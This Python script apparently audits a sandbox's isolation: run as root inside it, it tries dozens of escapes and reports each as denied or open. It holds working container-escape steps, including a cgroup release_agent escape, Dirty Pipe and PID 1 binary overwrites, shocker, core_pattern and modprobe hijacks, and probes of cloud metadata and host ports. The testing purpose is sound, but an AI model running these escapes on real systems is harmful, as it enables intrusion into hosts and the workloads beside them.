"""Attempts to leave a sandbox, as its root. Prints one line for each: its name, and "denied: why" or "open: what".

Usage: attempts.py HOST_ADDRESS NEIGHBOUR_ADDRESS MARKER; MARKER is a file that only a program on the host could write.
"""
import ctypes, errno, os, socket, stat, struct, subprocess, sys

libc = ctypes.CDLL(None, use_errno=True)
host, neighbour, marker = sys.argv[1:4]


class Denied(Exception):
    pass


def syscall(number, *args):
    """Raises OSError if the call fails."""
    libc.syscall.restype = ctypes.c_long
    got = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if got < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return got


def writes(path, data=b"x", flags=os.O_WRONLY):
    def attempt():
        fd = os.open(path, flags)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)
        return path + " was written"
    return attempt


def reads(path, size=64):
    def attempt():
        with open(path, "rb", buffering=0) as f:
            got = f.read(size)
        if not got:
            raise Denied("it is empty")
        return path + " was read"
    return attempt


def calls(number, *args):
    def attempt():
        return "it returned %d" % syscall(number, *args)
    return attempt


def opens_socket(*args):
    def attempt():
        socket.socket(*args).close()
        return "the socket was opened"
    return attempt


def connects(address, *ports):
    def attempt():
        pending = []
        for port in ports:
            s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
            s.setblocking(False)
            code = s.connect_ex((address, port))
            if code not in (0, errno.EINPROGRESS):
                s.close()
                continue
            pending.append((port, s))
        import select, time
        end, found = time.time() + 0.3, []
        while pending and time.time() < end:
            _, ready, _ = select.select([], [s for _, s in pending], [], max(0, end - time.time()))
            for port, s in list(pending):
                if s in ready:
                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                        found.append(port)
                    s.close()
                    pending.remove((port, s))
        if found:
            return "ports %s answered" % found
        raise Denied("no port answered")
    return attempt


def makes_device(kind, major, minor):
    """Makes a device node and reads it."""
    def attempt():
        path = "/tmp/node-%d-%d" % (major, minor)
        try:
            os.mknod(path, kind | 0o600, os.makedev(major, minor))
            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            os.close(fd)
        finally:
            if os.path.lexists(path):
                os.remove(path)
        return "device %d:%d was opened" % (major, minor)
    return attempt


def host_devices():
    """Opens the block devices that the kernel lists."""
    found = []
    for line in open("/proc/partitions").read().split("\n")[2:]:
        if line.strip():
            major, minor = map(int, line.split()[:2])
            try:
                found.append(makes_device(stat.S_IFBLK, major, minor)())
            except OSError:
                pass
    if found:
        return ", ".join(found)
    raise Denied("none can be opened")


def traces_agent():
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, 1, 0, 0) < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "PID 1 is traced"


def reads_agent_memory():
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", buffering=0) as mem:
        for line in maps:
            low, _ = (int(x, 16) for x in line.split()[0].split("-"))
            mem.seek(low)
            if mem.read(16):
                return "memory of PID 1 was read"
    raise Denied("nothing is mapped")


def reads_agent_memory_by_call():
    buf = ctypes.create_string_buffer(16)
    local, remote = struct.pack("QQ", ctypes.addressof(buf), 16), struct.pack("QQ", 0x400000, 16)
    n = syscall(310, 1, ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
    return "%d bytes of PID 1 were read" % n


def release_agent():
    """CVE-2022-0492: a cgroup's release_agent is started by the host's kernel."""
    script = "mkdir -p /tmp/cg && mount -t cgroup -o memory x /tmp/cg && mkdir -p /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release && " \
             "echo '#!/bin/sh\ntouch %s' > /tmp/agent.sh && chmod +x /tmp/agent.sh && echo /tmp/agent.sh > /tmp/cg/release_agent && " \
             "sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'" % marker
    out = subprocess.run(["unshare", "-UrmC", "sh", "-c", script], capture_output=True, text=True)
    if out.returncode != 0:
        raise Denied(out.stderr.strip()[-80:])
    return "release_agent was set"


def leaked_directory():
    """CVE-2024-21626: a descriptor of a host's directory that was left open."""
    for pid in ("self", "1"):
        base = "/proc/%s/fd" % pid
        try:
            names = os.listdir(base)
        except OSError:
            continue
        for name in names:
            for up in ("/../../../../../../etc/machine-id", "/../../../../../.." + marker):
                try:
                    if os.path.isdir("%s/%s" % (base, name)):
                        with open("%s/%s%s" % (base, name, up)) as f:
                            if not os.path.samefile("%s/%s" % (base, name), "/proc/self/fd"):
                                return "%s/%s leads to %s" % (base, name, f.name)
                except OSError:
                    pass
    raise Denied("no descriptor of a directory is open")


def overwrites_agent():
    """CVE-2019-5736: the program of PID 1, which other sandboxes run too."""
    for path in ("/proc/1/exe", os.environ.get("AGENT", "/.barchan/agent")):
        try:
            fd = os.open(path, os.O_WRONLY)
        except OSError as e:
            last = e
            continue
        os.close(fd)
        return path + " can be written"
    raise last


def host_sockets():
    found = []
    for root, _, names in os.walk("/"):
        if root.startswith(("/proc", "/sys")):
            continue
        for name in names:
            path = os.path.join(root, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(path)
                    found.append(path)
            except OSError:
                pass
    if found:
        return ", ".join(found)
    raise Denied("there is none")


def host_mounts():
    """Paths of the host that mountinfo tells."""
    lines = open("/proc/self/mountinfo").readlines()
    words = [w for line in lines for w in line.split() if "containerd" in w or "/var/lib/barchan" in w]
    if words and any(" - 9p " in line for line in lines):  # the type: an ID in a path can have these letters
        return "mountinfo tells " + words[0][:80]
    raise Denied("mountinfo tells no path of the host")


def joins_namespaces():
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    return "setns returned %d" % syscall(308, fd, 0)


def io_uring():
    params = ctypes.create_string_buffer(256)
    return "a ring has descriptor %d" % syscall(425, 4, params)


def handles():
    """The shocker exploit: an inode of the host by its number."""
    handle = struct.pack("II8s", 8, 1, struct.pack("Q", 2))
    fd = os.open("/", os.O_RDONLY)
    return "inode 2 has descriptor %d" % syscall(304, fd, ctypes.c_char_p(handle), os.O_RDONLY)


def mounts(kind):
    def attempt():
        os.makedirs("/tmp/mnt", exist_ok=True)
        if libc.mount(b"none", b"/tmp/mnt", kind.encode(), 0, None) < 0:
            code = ctypes.get_errno()
            raise OSError(code, os.strerror(code))
        libc.umount2(b"/tmp/mnt", 2)
        return kind + " was mounted"
    return attempt


def arp():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    s.bind(("eth0", 0))
    s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x06" + b"\0" * 28)
    return "an ARP packet was sent"


def clock():
    class Timespec(ctypes.Structure):
        _fields_ = [("sec", ctypes.c_long), ("nsec", ctypes.c_long)]
    now = Timespec(1, 0)
    return "the clock was set: %d" % syscall(227, 0, ctypes.byref(now))


def makes_interface():
    import fcntl
    os.mknod("/tmp/tun", stat.S_IFCHR | 0o600, os.makedev(10, 200))
    fd = os.open("/tmp/tun", os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack("16sH22x", b"escape0", 1))
    return "an interface was made"


def leaves_root():
    """Leaves a changed root by a descriptor above it: from the gofer's directory of the root upwards."""
    os.makedirs("/tmp/root", exist_ok=True)
    if os.fork() == 0:
        try:
            above = os.open("/", os.O_RDONLY)
            os.chroot("/tmp/root")
            os.fchdir(above)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            os._exit(2 if os.path.isdir(os.path.dirname(marker)) else 1)
        except OSError as e:
            os._exit(10 + min(e.errno, 200))
    code = os.waitstatus_to_exitcode(os.wait()[1])
    if code == 2:
        return "a directory of the host is there"
    raise Denied("the root is the sandbox's") if code == 1 else OSError(code - 10, "")


def links_of_host():
    """Follows links that a server could resolve on the host: in the sandbox they lead nowhere."""
    for name, to in {"direct": marker, "up": "../" * 64 + marker, "by proc": "/proc/1/root/" + "../" * 64 + marker, "by cwd": "/proc/1/cwd/" + "../" * 64 + marker}.items():
        path = "/tmp/link " + name
        if not os.path.islink(path):
            os.symlink(os.path.dirname(to), path)
        if os.path.isdir(path):
            return path + " leads to the host"
    raise Denied("they lead nowhere")


def dirty_pipe():
    """CVE-2022-0847: writes to a file that is open for reading, by way of a pipe's pages."""
    path = os.environ.get("AGENT", "/.barchan/agent")
    before = open(path, "rb").read(64)
    fd = os.open(path, os.O_RDONLY)
    out, into = os.pipe()
    size = os.fpathconf(out, "PC_PIPE_BUF") * 16
    os.write(into, b"x" * size)
    os.read(out, size)
    os.splice(fd, into, 1, offset_src=4)
    os.write(into, b"escaped")
    if open(path, "rb").read(64) != before:
        return path + " was written"
    raise Denied("the file is as it was")


def takes_descriptor():
    """Takes a descriptor of PID 1."""
    pidfd = syscall(434, 1, 0)
    return "descriptor 0 of PID 1 is %d" % syscall(438, pidfd, 0, 0)


def clones(flag):
    """Makes a process in a namespace of its own. A mount namespace is one if it mounts there."""
    def attempt():
        pid = syscall(56, flag | 17, 0, 0, 0, 0)
        if pid == 0:
            ok = flag != 0x20000 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
            os._exit(0 if ok else min(ctypes.get_errno(), 200))
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        if code:
            raise OSError(code, os.strerror(code))
        return "clone returned %d" % pid
    return attempt


def clones_by_clone3():
    """Makes a process in mount, PID and network namespaces by clone3, whose flags a seccomp filter cannot read."""
    flags = 0x20000 | 0x20000000 | 0x40000000
    pid = syscall(435, ctypes.create_string_buffer(struct.pack("=8Q", flags, 0, 0, 0, 17, 0, 0, 0)), 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "clone3 returned %d" % pid


def user_namespace():
    """Becomes root with all capabilities in namespaces of its own, and looks for the host there: devices, and directories."""
    pid = syscall(56, 0x10000000 | 0x20000 | 17, 0, 0, 0, 0)
    if pid == 0:
        try:
            for name, text in {"setgroups": "deny", "uid_map": "0 0 1", "gid_map": "0 0 1"}.items():
                with open("/proc/self/" + name, "w") as f:
                    f.write(text)
            for attempt in (host_devices, makes_device(stat.S_IFCHR, 1, 1), writes("/proc/sys/kernel/core_pattern", b"|/tmp/x")):
                try:
                    attempt()
                    os._exit(2)
                except (OSError, Denied):
                    pass
            libc.umount2(b"/proc", 2)
            for _ in range(8):
                libc.umount2(b"/", 2)
            os._exit(2 if os.path.isdir(os.path.dirname(marker)) else 1)
        except OSError as e:
            os._exit(10 + min(e.errno, 200))
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code == 2:
        return "something of the host is there"
    raise Denied("nothing of the host is there") if code == 1 else OSError(code - 10, "")


def nftables():
    """Adds a table to the packet filter (the way to CVE-2024-1086)."""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    s.settimeout(2)

    def message(kind, flags, family, subsystem, body=b""):
        data = struct.pack("=BBH", family, 0, socket.htons(subsystem)) + body
        return struct.pack("=IHHII", 16 + len(data), kind, flags, 1, 0) + data
    name = struct.pack("=HH", 4 + 8, 1) + b"escaped\0"
    s.send(message(16, 1, 0, 10) + message(10 << 8, 1 | 4, 2, 0, name) + message(17, 1, 0, 10))
    code = -struct.unpack_from("=i", s.recv(4096), 16)[0]
    if code:
        raise OSError(code, os.strerror(code))
    return "a table was made"


HOST_PORTS = (22, 111, 2375, 2376, 2379, 2380, 6443, 7700, 7743, 7764, 10250, 49983)

ATTEMPTS = {
    "trace the agent": traces_agent,
    "read the agent's memory": reads_agent_memory,
    "read the agent's memory by process_vm_readv": reads_agent_memory_by_call,
    "overwrite the agent (CVE-2019-5736)": overwrites_agent,
    "release_agent of a cgroup (CVE-2022-0492)": release_agent,
    "a leaked descriptor (CVE-2024-21626)": leaked_directory,
    "open_by_handle_at (shocker)": handles,
    "core_pattern": writes("/proc/sys/kernel/core_pattern", b"|/tmp/x"),
    "modprobe path": writes("/proc/sys/kernel/modprobe", b"/tmp/x"),
    "binfmt_misc": writes("/proc/sys/fs/binfmt_misc/register", b":x:M::x::/tmp/x:"),
    "sysrq-trigger": writes("/proc/sysrq-trigger", b"h"),
    "uevent_helper": writes("/sys/kernel/uevent_helper", b"/tmp/x"),
    "cgroup limits": writes("/sys/fs/cgroup/memory/memory.limit_in_bytes", b"-1"),
    "kernel memory (kcore)": reads("/proc/kcore"),
    "kernel memory (/dev/mem)": makes_device(stat.S_IFCHR, 1, 1),
    "kernel log": reads("/dev/kmsg"),
    "keys of the host": reads("/proc/keys"),
    "symbols of the kernel": lambda: reads("/proc/kallsyms")() if open("/proc/kallsyms").read(16).strip("0 \n")[:1] not in ("", "T", "A") else (_ for _ in ()).throw(Denied("addresses are zero")),
    "block devices": host_devices,
    "/dev/kvm": makes_device(stat.S_IFCHR, 10, 232),
    "/dev/fuse": makes_device(stat.S_IFCHR, 10, 229),
    "a network interface of its own": makes_interface,
    "sockets of the host": host_sockets,
    "paths of the host": host_mounts,
    "setns": joins_namespaces,
    "mount tmpfs": mounts("tmpfs"),
    "mount cgroup": mounts("cgroup"),
    "mount sysfs": mounts("sysfs"),
    "pivot_root": calls(155, ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp")),
    "the new mount calls (CVE-2022-0185)": calls(430, ctypes.c_char_p(b"ext4"), 0),
    "open_tree": calls(428, -100, ctypes.c_char_p(b"/"), 1),
    "a mount namespace by clone": clones(0x20000),
    "a PID namespace by clone": clones(0x20000000),
    "a network namespace by clone": clones(0x40000000),
    "a cgroup namespace by clone": clones(0x2000000),
    "namespaces by clone3": clones_by_clone3,
    "a user namespace": user_namespace,
    "the directory above the root": leaves_root,
    "links to the host": links_of_host,
    "write through a pipe (CVE-2022-0847)": dirty_pipe,
    "a descriptor of the agent": takes_descriptor,
    "nftables (CVE-2024-1086)": nftables,
    "add_key": calls(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(b"y"), 1, -3),
    "keyctl": calls(250, 11, -4, ctypes.create_string_buffer(64), 64, 0),
    "bpf": calls(321, 0, ctypes.create_string_buffer(128), 128),
    "io_uring": io_uring,
    "userfaultfd": calls(323, 0),
    "perf_event_open": calls(298, ctypes.create_string_buffer(128), 0, -1, -1, 0),
    "init_module": calls(175, ctypes.c_char_p(b"x" * 64), 64, ctypes.c_char_p(b"")),
    "kexec_load": calls(246, 0, 0, 0, 0),
    "iopl": calls(172, 3),
    "set the clock": clock,
    "reboot": calls(169, 0xfee1dead, 672274793, 0x89abcdef, 0),
    "packet socket": opens_socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
    "raw socket": opens_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "ARP": arp,
    "vsock to the hypervisor": opens_socket(40, socket.SOCK_STREAM),
    "AF_ALG": opens_socket(38, socket.SOCK_SEQPACKET),
    "ports of the host": connects(host, *HOST_PORTS),
    "ports of a neighbour": connects(neighbour, 49983, 22, 80),
    "metadata of a cloud": connects("169.254.169.254", 80),
    "a cloud's wire server": connects("168.63.129.16", 80, 32526),
    "IPv6 neighbours": connects("fe80::1", 22, 80),
}

for name, attempt in ATTEMPTS.items():
    try:
        outcome = "open: " + attempt()
    except (OSError, Denied, AttributeError) as e:
        outcome = "denied: " + (errno.errorcode.get(e.errno, "?") if isinstance(e, OSError) and e.errno else str(e) or type(e).__name__)
    print(name + "\t" + outcome.replace("\n", " "))
